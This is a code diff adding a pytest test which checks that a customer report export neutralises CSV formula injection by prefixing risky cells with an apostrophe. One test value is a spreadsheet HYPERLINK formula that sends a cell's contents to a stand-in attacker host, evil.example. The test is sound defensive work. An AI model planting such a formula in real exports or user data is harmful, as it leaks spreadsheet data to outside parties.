@@ -79,6 +79,25 @@ def test_my_customers_report_is_built_with_progress_and_downloaded(client: Clien
     assert "x@example.com" not in {row[1] for row in rows}
 
 
+def test_report_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text(
+    client: Client, ann: User
+) -> None:
+    # OWASP "CSV Injection": text starting with = + - @, tab or CR is a formula to Excel.
+    names = ['=HYPERLINK("https://evil.example/?"&A2,"open")', "@SUM(1+1)", "+1+2", "-3+4", "\tTab", "\rCR"]
+    Customer.objects.bulk_create(
+        Customer(owner=ann, name=name, email=f"f{n}@example.com", phone="+49 30 1234")
+        for n, name in enumerate(names)
+    )
+    Customer.objects.create(owner=ann, name="Plain - name", email="plain@example.com")
+    client.force_login(ann)
+    assert ask(client, "customers")[0] == 202
+    factories.run_due()
+    job = Job.objects.get(task_path="reports.tasks.build_report")
+    rows = download(client, str(job.id))
+    assert [row[0] for row in rows[1:]] == ["'" + name for name in names] + ["Plain - name"]
+    assert {row[2] for row in rows[1:]} == {"'+49 30 1234", ""}
+
+
 @pytest.mark.usefixtures("customers")
 def test_a_report_can_be_filtered(client: Client, ann: User) -> None:
     client.force_login(ann)
